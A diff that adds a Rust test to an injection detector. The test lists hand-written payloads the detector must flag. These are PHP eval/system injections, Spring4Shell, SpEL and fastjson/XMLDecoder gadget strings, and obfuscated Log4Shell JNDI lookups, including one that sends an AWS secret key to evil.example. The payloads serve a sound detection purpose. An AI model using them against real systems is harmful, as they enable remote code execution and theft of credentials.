@@ -211,6 +211,37 @@ fn hard_negatives_pass_at_level_1() {
     assert!(fired.is_empty(), "{fired:#?}");
 }
 
+/// Hand-written forms outside the grammars' templates (written from the languages' syntax): each
+/// must be caught at level 1 by its detector.
+const HAND_WRITTEN: &[(&str, &str)] = &[
+    ("php-injection", "{${system(id)}}"),
+    ("php-injection", "die(system('id'))"),
+    ("php-injection", "system(chr(105).chr(100))"),
+    ("php-injection", "ob_start('system'); echo 'id';"),
+    ("php-injection", "include($_GET['page'])"),
+    ("php-injection", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+"),
+    ("php-injection", "zip://uploads/avatar.jpg#shell.php"),
+    ("php-injection", "\"+system('id')+\""),
+    ("php-injection", "<?PHP\n@eval($_POST['x']);"),
+    ("java-injection", "class.module.classLoader.resources.context.parent.pipeline.first.pattern"),
+    ("java-injection", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
+    ("java-injection", "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x"),
+    ("java-injection", "{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"ldap://x/a\"}"),
+    ("java-injection", "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"),
+    ("java-injection", "[\"org.apache.xbean.propertyeditor.JndiConverter\", {\"asText\":\"ldap://x/a\"}]"),
+    ("java-injection", "redirect:${#a=new java.lang.ProcessBuilder('id').start()}"),
+    ("deserialization", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}"),
+    ("deserialization", "${${lower:J:-x}ndi:rmi://x.example/a}"),
+    ("deserialization", "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://x/a}"),
+    ("deserialization", "${jndi:ldap://127.0.0.1#evil.example:1389/${env:AWS_SECRET_ACCESS_KEY}}"),
+];
+
+#[test]
+fn hand_written_forms_are_caught() {
+    let missed: Vec<_> = HAND_WRITTEN.iter().filter(|(d, text)| detect(text, Place::QueryValue, "q", d, 1).is_none()).collect();
+    assert!(missed.is_empty(), "{missed:#?}");
+}
+
 /// Every JSON string literal in a line, escapes undone (keys included: they never fire).
 fn json_strings(line: &str) -> Vec<String> {
     let b = line.as_bytes();
